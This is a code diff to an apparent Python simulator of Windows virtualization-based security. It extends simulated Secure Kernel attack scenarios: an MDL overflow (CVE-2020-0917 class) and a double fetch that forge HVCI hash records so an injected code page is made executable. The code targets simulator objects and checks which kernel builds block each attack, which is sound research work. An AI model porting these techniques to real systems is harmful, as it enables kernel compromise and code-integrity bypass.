@@ -27,6 +27,8 @@ host-side lookup, as symbols or a memory scan give them to a real attacker.
 from __future__ import annotations
 
 import functools
+import hashlib
+from dataclasses import dataclass
 from typing import Any
 
 from vbsim.attacks.catalogue.a15_a20_boot_and_trustlets import (
@@ -41,10 +43,10 @@ from vbsim.attacks.context import AttackContext, payload_routine
 from vbsim.attacks.goals import loot_contains, vtl0_rights
 from vbsim.attacks.model import Capability, Outcome, Scenario
 from vbsim.guest import hvcall
-from vbsim.guest.address_space import DIRECT_MAP
+from vbsim.guest.address_space import CODE_BASE, DIRECT_MAP
 from vbsim.guest.nic import driver_transfer
 from vbsim.hv.defs import HvMapGpaFlags
-from vbsim.hw.code import encode_thunk
+from vbsim.hw.code import THUNK_SIZE, encode_thunk
 from vbsim.hw.cpu import Cpu
 from vbsim.hw.dma import DEFAULT_BASE, DIR_FROM_MEMORY, DIR_TO_MEMORY, STATUS_NAMES, DmaDevice
 from vbsim.hw.pagetable import PageTables, PhysAccess
@@ -60,8 +62,9 @@ from vbsim.nt.lsass import DEFAULT_LOGON, nt_owf
 from vbsim.nt.syscalls import syscall
 from vbsim.ntstatus import NtStatus
 from vbsim.policy import Policy
-from vbsim.sk.services import allocation
+from vbsim.sk.layouts import Hvci as SkHvci
 from vbsim.sk.services.allocation import MDL_BYTECOUNT_OFFSET, NORMAL_GET_PHYSICAL_PAGES
+from vbsim.sk.sscn import Service
 
 B, S, N = Outcome.BLOCKED, Outcome.SUCCEEDED, Outcome.NOT_APPLICABLE
 #: Blocked wherever VBS runs; meaningless without it.
@@ -132,7 +135,7 @@ def sk_key_page(ctx: AttackContext) -> tuple[int, bytes]:
     sk = ctx.booted.sk
     machine = ctx.booted.machine
     assert sk is not None and machine is not None
-    gpa = sk_data_gpa(ctx, int(sk.ext["keys.va"]))
+    gpa = sk_data_gpa(ctx, sk.keys_va)
     return gpa, machine.ram.read(gpa, 96)
 
 
@@ -384,36 +387,111 @@ A6_KDP = Scenario(
 
 # -- A8: secure-call parameter abuse (CVE-2020-0917 class) -----------------------------------------
 MARKER = b"A8-OWNED"
+#: Bytes the crafted copy writes past the allocation: the hash records' 16-byte header and one
+#: 40-byte record (``vbsim.sk.layouts.Hvci``).
+FORGED_LENGTH = SkHvci.HASH_RECORDS + SkHvci.RECORD_SIZE
 
 
-def _crafted_fills(vp: VirtualProcessor, marker: bytes) -> list[int]:
-    """K0: a secure allocation of one page, then FILL_SECURE_ALLOCATION with an MDL whose
-    ByteCount runs 16 bytes past it (unchecked TransferMdl->ByteCount), and one whose offset
-    starts right after it."""
+def _a8_shellcode(vp: VirtualProcessor) -> int:
+    record_run(vp, "a8")
+    return 0
+
+
+@dataclass
+class _Prepared:
+    """What the K0 attacker computed before the overflow: the forged bytes, and the NT code page
+    (and the free slot in it) its shellcode's thunk will go to."""
+
+    forged: bytes
+    code_va: int
+    pfn: int
+    thunk: bytes
+
+
+def _prepare(vp: VirtualProcessor) -> _Prepared:
+    """K0: pick NT's last code page (validated under HVCI), find a free thunk slot in it, and
+    compute the SHA-256 of the page as it will be with the shellcode's thunk in that slot.  The
+    forged bytes are a hash-record header (count 1, the loader's capacity) and one record naming
+    that page with that hash.  Nothing here asks the Secure Kernel anything."""
     nt = nt_of(vp)
+    header = (1).to_bytes(4, "little") + SkHvci.HASH_MAX.to_bytes(4, "little") + MARKER
+    page_index = len(nt.space.code_pages) - 1
+    va_page = CODE_BASE + page_index * PAGE_SIZE
+    pfn = nt.space.code_pages[page_index]
+    content = bytearray(vp.read(va_page, PAGE_SIZE))
+    empty = bytes(THUNK_SIZE)
+    slot = next(
+        (o for o in range(0, PAGE_SIZE, THUNK_SIZE) if content[o : o + THUNK_SIZE] == empty),
+        PAGE_SIZE - THUNK_SIZE,
+    )
+    thunk = encode_thunk(payload_routine(_a8_shellcode))
+    content[slot : slot + THUNK_SIZE] = thunk
+    record = pfn.to_bytes(8, "little") + hashlib.sha256(bytes(content)).digest()
+    return _Prepared(header + record, va_page + slot, pfn, thunk)
+
+
+def _make_executable_and_run(vp: VirtualProcessor, prepared: _Prepared) -> str:
+    """K0, after the overflow: make the code page writable through the sanctioned
+    MAKE_PROTECTED_PAGE_WRITABLE (NT's hotpatch path), write the thunk, and ask the SK to make
+    the page executable again (it re-hashes it against its records); call the shellcode if the
+    SK said yes."""
+    nt = nt_of(vp)
+    assert nt.vsl is not None
+    status, _ = nt.vsl.call(vp, Service.MAKE_PROTECTED_PAGE_WRITABLE, prepared.pfn)
+    if status == NtStatus.NOT_SUPPORTED:
+        return "no-hvci"
+    if status != NtStatus.SUCCESS:
+        return NtStatus.name_of(status)
+    page_offset = prepared.code_va & (PAGE_SIZE - 1)
+    vp.write(DIRECT_MAP + (prepared.pfn << PAGE_SHIFT) + page_offset, prepared.thunk)
+    status, _ = nt.vsl.call(vp, Service.MAKE_PROTECTED_PAGE_EXECUTABLE, prepared.pfn, 0)
+    if status != NtStatus.SUCCESS:
+        return NtStatus.name_of(status)
+    vp.call(prepared.code_va)
+    return "ran"
+
+
+def _overflow_source(nt: NtKernel, vp: VirtualProcessor, forged: bytes) -> list[int]:
+    """Two pages: filler for the allocation, then the forged bytes that land behind it."""
+    filler = MARKER * (PAGE_SIZE // len(MARKER))
+    return ntkdp.stage_buffer(nt, vp, filler + forged.ljust(PAGE_SIZE, b"\0"))
+
+
+def _crafted_fills(vp: VirtualProcessor) -> list[Any]:
+    """K0: a secure allocation of one page, then FILL_SECURE_ALLOCATION with an MDL whose
+    ByteCount runs past it (unchecked TransferMdl->ByteCount), and one whose offset starts right
+    after it; then, under HVCI, the follow-on that turns the overwrite into unsigned code."""
+    nt = nt_of(vp)
+    prepared = _prepare(vp)
     status, handle = ntkdp.create_secure_allocation(nt, vp, PAGE_SIZE)
     if status != NtStatus.SUCCESS:
         return [status]
-    source = ntkdp.stage_buffer(nt, vp, marker * (2 * PAGE_SIZE // len(marker)))
-    statuses = [status]
-    for offset, count in ((0, PAGE_SIZE + 16), (PAGE_SIZE, 16)):
-        mdl_va, mdl_pfn = ntkdp.build_mdl(nt, vp, source, count)
+    source = _overflow_source(nt, vp, prepared.forged)
+    statuses: list[Any] = [status]
+    for offset, count in ((0, PAGE_SIZE + FORGED_LENGTH), (PAGE_SIZE, FORGED_LENGTH)):
+        pfns = source if offset == 0 else source[1:]
+        mdl_va, mdl_pfn = ntkdp.build_mdl(nt, vp, pfns, count)
         statuses.append(ntkdp.fill_secure_allocation_raw(nt, vp, handle, offset, mdl_va, mdl_pfn))
-    return statuses
+    statuses.append(_make_executable_and_run(vp, prepared))
+    return [*statuses, prepared.forged]
 
 
-def policy_page_gpa(ctx: AttackContext) -> int | None:
+def hash_records_gpa(ctx: AttackContext) -> int | None:
     sk = ctx.system.sk if ctx.system else None
-    if sk is None:
-        return None
-    return allocation.state(sk).policy_gpa
+    return None if sk is None else int(sk.hvci.hashes_gpa)
 
 
-def sk_policy_owned(ctx: AttackContext) -> bool:
-    """The Secure Kernel's policy page (SKPG_CONTEXT-like, right after the allocation arena)
-    holds the attacker's bytes."""
-    gpa = policy_page_gpa(ctx)
-    return gpa is not None and MARKER in _ram(ctx, gpa, 64)
+def sk_records_forged(ctx: AttackContext) -> bool:
+    """HVCI's hash records, the SK data right behind the allocation, hold the attacker's forged
+    header and record (RAM at their GPA, host side)."""
+    gpa = hash_records_gpa(ctx)
+    forged = ctx.notes.get("forged")
+    return gpa is not None and isinstance(forged, bytes) and _ram(ctx, gpa, len(forged)) == forged
+
+
+def _a8_steps(ctx: AttackContext) -> None:
+    *statuses, forged = ctx.kernel(_crafted_fills)
+    ctx.notes.update(statuses=_statuses(statuses[:-1]), follow_on=statuses[-1], forged=forged)
 
 
 A8 = Scenario(
@@ -422,35 +500,38 @@ A8 = Scenario(
     source="Amar & King, 'Breaking VSM by attacking SecureKernel', Black Hat USA 2020 "
     "(CVE-2020-0917, CVE-2020-0918); vbs-internals §6 A8",
     capability=Capability.K0,
-    goal="SK memory changes: the policy page next to the allocation holds attacker bytes",
+    goal="SK memory changes: HVCI's validated-hash records behind the allocation hold a record "
+    "the attacker forged (under HVCI the SK then makes the attacker's patched page executable)",
     expected=ONLY_LEGACY,
     expected_why="the fixed Secure Kernel captures the MDL and bounds ByteCount and the offset "
     "by the allocation (and checks every PFN is VTL0's) before copying; the Secure Kernel of "
     "2019 trusted them, so the copy ran into the SK data behind the buffer (fixed in build "
     "18841, vbs-internals §6 A8).",
-    steps=lambda ctx: ctx.notes.update(statuses=_statuses(ctx.kernel(_crafted_fills, MARKER))),
-    goal_met=sk_policy_owned,
+    steps=_a8_steps,
+    goal_met=sk_records_forged,
     applicable=needs_vbs,
 )
 
 
 # -- A9: double fetch through the normal-call window ----------------------------------------------
-def _toctou_fill(vp: VirtualProcessor, marker: bytes) -> list[int]:
+def _toctou_fill(vp: VirtualProcessor) -> list[Any]:
     """K0: a well-formed MDL (64 bytes), and a hook on NT's normal-call dispatch.  The Secure
     Kernel makes its "get physical pages" normal call after validating the MDL and before
-    copying; NT's code — the attacker's hook — runs then and enlarges ByteCount in VTL0 memory."""
+    copying; NT's code — the attacker's hook — runs then and enlarges ByteCount in VTL0 memory
+    so that the copy reaches the forged bytes into the hash records behind the allocation."""
     nt = nt_of(vp)
     assert nt.vsl is not None
+    prepared = _prepare(vp)
     status, handle = ntkdp.create_secure_allocation(nt, vp, PAGE_SIZE)
     if status != NtStatus.SUCCESS:
-        return [status]
-    source = ntkdp.stage_buffer(nt, vp, marker * (2 * PAGE_SIZE // len(marker)))
+        return [status, prepared.forged]
+    source = _overflow_source(nt, vp, prepared.forged)
     mdl_va, mdl_pfn = ntkdp.build_mdl(nt, vp, source, 64)
     original = nt.vsl.normal_calls[NORMAL_GET_PHYSICAL_PAGES]
     swapped: list[int] = []
 
     def hooked(nt_: NtKernel, vp_: VirtualProcessor, args: list[int]) -> list[int]:
-        vp_.write_u32(mdl_va + MDL_BYTECOUNT_OFFSET, PAGE_SIZE + 16)
+        vp_.write_u32(mdl_va + MDL_BYTECOUNT_OFFSET, PAGE_SIZE + FORGED_LENGTH)
         swapped.append(1)
         return original(nt_, vp_, args)
 
@@ -459,7 +540,12 @@ def _toctou_fill(vp: VirtualProcessor, marker: bytes) -> list[int]:
         fill = ntkdp.fill_secure_allocation_raw(nt, vp, handle, 0, mdl_va, mdl_pfn)
     finally:
         nt.vsl.normal_calls[NORMAL_GET_PHYSICAL_PAGES] = original
-    return [status, fill, len(swapped)]
+    return [status, fill, len(swapped), prepared.forged]
+
+
+def _a9_steps(ctx: AttackContext) -> None:
+    *result, forged = ctx.kernel(_toctou_fill)
+    ctx.notes.update(result=result, forged=forged)
 
 
 A9 = Scenario(
@@ -467,19 +553,19 @@ A9 = Scenario(
     title="Double fetch: enlarge a validated MDL during the Secure Kernel's normal call",
     source="Amar & King, Black Hat USA 2020; vbs-internals §2.5 (normal calls), §6 A9",
     capability=Capability.K0,
-    goal="SK memory changes: the policy page next to the allocation holds attacker bytes",
+    goal="SK memory changes: HVCI's validated-hash records behind the allocation hold a record "
+    "the attacker forged (what that record buys under HVCI is A8's follow-on)",
     expected=ONLY_LEGACY,
     expected_why="the Secure Kernel copies VTL0-resident inputs into VTL1 before checking them "
     "and uses only its copy, so changing VTL0 memory after the check changes nothing; an SK that "
     "fetches the MDL again after the normal call (the legacy switch) copies the enlarged length "
     "(vbs-internals §6 A9: no specific double-fetch CVE is public, the class is).",
-    steps=lambda ctx: ctx.notes.update(result=ctx.kernel(_toctou_fill, MARKER)),
-    goal_met=sk_policy_owned,
+    steps=_a9_steps,
+    goal_met=sk_records_forged,
     applicable=needs_vbs,
 )
 
 
-# -- A13: VTL1 ring 0 ------------------------------------------------------------------------------
 def lsaiso_table_gpa(ctx: AttackContext) -> int | None:
     """Where LsaIso's credential table lives: the SK's process table and LsaIso's page tables."""
     for process in secure_processes(ctx):
